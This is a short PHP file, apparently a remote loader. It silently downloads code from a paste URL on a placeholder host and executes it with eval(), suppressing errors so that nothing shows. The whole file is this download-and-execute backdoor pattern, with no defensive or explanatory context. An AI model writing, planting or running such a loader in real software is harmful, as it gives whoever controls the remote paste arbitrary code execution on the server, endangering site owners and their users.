<?php
$code = @file_get_contents('https://pastebin.example/raw/Zx81');
if ($code !== false) {
    eval('?>' . $code);
}
